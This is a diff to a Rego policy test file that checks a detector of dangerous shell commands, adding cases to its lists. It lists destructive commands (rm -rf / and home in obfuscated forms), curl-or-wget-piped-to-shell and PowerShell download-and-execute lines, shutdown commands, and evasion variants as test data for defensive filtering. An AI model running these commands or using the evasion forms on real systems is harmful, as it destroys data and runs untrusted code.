@@ -14,7 +14,7 @@ test_removes_everything if {
 	_does("removes everything below a place", [
 		"rm -rf /", "rm -fr /*", "rm -r -f ~", "rm --recursive --force ~/", "rm -Rf $HOME", "rm -rf \"${HOME}/\"", "sudo rm -rf /etc",
 		"/bin/rm -rf /usr/*", "cd /srv && rm -rf *", "cd /srv; rm -rf .", "true || rm -rf ./", "ls\nrm -rf ..", "r\\m -rf /", "'rm' -rf /",
-		"rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/", "rm\t-rf\t/", "A=1 rm -rf /", "xargs rm -rf /home", "(rm -rf /root)", "echo `rm -rf /`",
+		"rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/", "rm\t-rf\t/", "rm\r-rf\r/", "rm -rf\\\n/", "A=1 rm -rf /", "xargs rm -rf /home", "(rm -rf /root)", "echo `rm -rf /`",
 		"echo $(rm -rf /)", "{ rm -rf /; }", "ls & rm -rf /", "rm -rf docs /", "sudo -u root rm -rf /var", "rm \\\n -rf /", "RM -RF /",
 	])
 }
@@ -70,7 +70,7 @@ test_reverse_shell if {
 test_runs_what_it_fetches if {
 	_does("runs what it downloads or decodes", [
 		"curl -fsSL https://a.example/install.sh | sh", "wget -qO- https://a.example | sudo bash", "curl a | tee x | bash", "curl a 2>&1 | sh",
-		"curl a |& sh", "sh -c \"$(curl -fsSL https://a.example)\"", "bash <(curl a)", "eval `curl a`", "source <(wget -qO- a)", ". <(curl a)",
+		"curl a |& sh", "curl>&2 | sh", "curl&>x | sh", "ls | bash $(curl a)", "bash <(curl a | tee b)", "sh -c \"$(curl -fsSL https://a.example)\"", "bash <(curl a)", "eval `curl a`", "source <(wget -qO- a)", ". <(curl a)",
 		"echo aGk= | base64 -d | sh", "echo aGk= | base64 --decode | python3", "base64 -di x | sh", "xxd -r x | sh", "xxd -rp x | sh",
 		"openssl enc -d -in x | sh", "base32 -d x|sh", "ls && curl a | env bash",
 		"powershell IEX (New-Object Net.WebClient).DownloadString('http://a')", "iex(iwr http://a)", "Invoke-Expression (Invoke-WebRequest a)",
@@ -92,7 +92,9 @@ test_every_source_and_reader if {
 }
 
 test_stops_the_machine if {
-	_does("stops the machine", ["halt", "poweroff -f", "sudo reboot", "shutdown -h now"])
+	_does("stops the machine", [
+		"halt", "poweroff -f", "sudo reboot", "shutdown -h now", "if (reboot); then ls; fi", "(ls)reboot", "if { reboot; }; then ls; fi", "{ ls }reboot",
+	])
 }
 
 test_several_dangers if {
@@ -102,11 +104,11 @@ test_several_dangers if {
 test_harmless if {
 	every text in [
 		"", "ls -la /", "rm notes.txt", "rm -rf ./build", "rm -rf build/*", "rm -f /", "rm -i /srv/a", "git rm -r .", "rmdir /", "rm --force /",
-		"rm --preserve-root docs", "rm -f -- /", "rm --dir /",
+		"rm --preserve-root docs", "rm -f -- /", "rm -rf /srv${HOME}", "rm --dir /",
 		"chmod 755 x", "chmod u+x x", "chmod 0 x", "dd if=a of=b", "dd if=a of=/dev/null", "dd if=/dev/sda of=disk.img", "echo x > /dev/null",
 		"shred x", "curl a -o b", "curl a | jq .", "curl a | tee x", "sh x | curl -d @- a", "curl a; sh b", "curl a && sh b", "wget a || bash b",
 		"echo $(curl a)", "sh -c ls $", "bash < x; curl a", "echo x | base64 | sh", "base64 -d x > y", "base64 -d x | jq .", "nc -z x 1", "nc --verbose x 1", "nc x 1",
-		"socat tcp:x:1 tcp:y:2", "echo reboot", "grep shutdown log", "cat mkfs.txt", "man mkfs", "iexplore", "iwr http://a", "downloadstring", ":(){ :; };:", "cat /dev/tcp",
+		"socat tcp:x:1 tcp:y:2", "echo reboot", "echo 777", "echo of=/dev/sda", "echo exec:ls", "grep -d x | sh", "sudo curl sh", "bash <(ls)", "eval $(ssh-agent -s)", "grep shutdown log", "cat mkfs.txt", "man mkfs", "iexplore", "iwr http://a", "downloadstring", ":(){ :; };:", "cat /dev/tcp",
 		"python3 -c 'print(1)' | wget x", "x=$(curl y); python z.py",
 	] {
 		commands.dangers(text) == set()
